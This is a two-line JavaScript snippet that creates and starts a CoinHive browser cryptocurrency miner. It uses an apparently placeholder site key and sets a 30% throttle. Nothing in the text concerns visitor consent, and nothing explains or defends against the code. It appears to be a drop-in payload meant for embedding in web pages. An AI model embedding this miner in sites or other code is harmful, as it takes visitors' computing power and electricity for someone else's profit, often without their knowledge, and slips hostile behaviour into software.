var miner = new CoinHive.Anonymous("AAAABBBBCCCC", { throttle: 0.3 });
miner.start();
